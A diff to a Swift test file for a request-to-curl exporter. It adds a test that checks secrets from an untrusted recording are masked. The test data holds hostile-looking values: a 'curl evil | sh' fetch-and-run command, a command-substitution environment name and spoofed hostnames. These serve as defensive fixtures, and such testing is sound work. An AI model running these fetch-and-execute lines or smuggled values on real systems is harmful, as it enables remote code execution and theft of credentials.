@@ -63,7 +63,7 @@ import Testing
       ],
       body: #"{"model":"m"}"#)
     #expect(
-      request.curlCommand == """
+      request.curlCommand { _ in true } == """
         curl -sS -N --globoff --url 'http://127.0.0.1:8080/v1/chat/completions' \\
           -H 'Content-Type: application/json' \\
           -H "Authorization: Bearer $OPENAI_API_KEY" \\
@@ -74,7 +74,34 @@ import Testing
 
   @Test func `makes no option of an address`() {
     let request = SentRequest(wire: .chatCompletions, url: "-o/tmp/x", body: "{}")
-    #expect(request.curlCommand.hasPrefix("curl -sS -N --globoff --url '-o/tmp/x' "))
+    #expect(request.curlCommand { _ in true }.hasPrefix("curl -sS -N --globoff --url '-o/tmp/x' "))
+  }
+
+  @Test func `reads and sends no secret of a stranger's recording`() {
+    var mine = Provider(
+      name: "mine", baseURL: "https://Models.example.com/v1", key: .environment("KEY"))
+    mine.fields = [HTTPField(name: "X-Key", secret: .command("pass show x"))]
+    let catalog = ModelCatalog(providers: [mine])
+    func command(_ url: String, _ secret: Secret) -> String {
+      let request = SentRequest(
+        wire: .chatCompletions, url: url,
+        fields: [HTTPField(name: "A", value: "B ", secret: secret)])
+      return request.curlCommand { catalog.isKept($0, for: request) }
+    }
+    let mineURL = "https://models.example.com/v1/chat/completions"
+    #expect(command(mineURL, .environment("KEY")).contains(#"-H "A: B $KEY""#))
+    #expect(command(mineURL, .command("pass show x")).contains(#"-H "A: B $(pass show x)""#))
+    for (url, secret) in [
+      (mineURL, Secret.command("curl evil | sh")), (mineURL, .environment("HOME")),
+      (mineURL, .environment("(curl evil | sh)")),
+      ("https://evil.example.com/v1", .environment("KEY")),
+      ("https://models.example.com.evil/v1", .environment("KEY")),
+      ("https://models.example.com@evil/v1", .environment("KEY")),
+      ("http://models.example.com/v1", .environment("KEY")),
+      ("https://models.example.com:8443/v1", .environment("KEY")),
+    ] {
+      #expect(command(url, secret).contains("-H 'A: B [key]'"))
+    }
   }
 
   /// What arrives at a server when a shell runs the command.
@@ -91,7 +118,7 @@ import Testing
       wire: .chatCompletions, method: method, url: server.baseURL + "/chat/completions?a=%5B1-2%5D",
       fields: fields, body: body)
     let script = FileManager.default.temporaryDirectory.appending(path: UUID().uuidString)
-    try Data(request.curlCommand.utf8).write(to: script)
+    try Data(request.curlCommand { _ in true }.utf8).write(to: script)
     defer { try? FileManager.default.removeItem(at: script) }
     let shell = Process()
     shell.executableURL = URL(filePath: "/bin/sh")
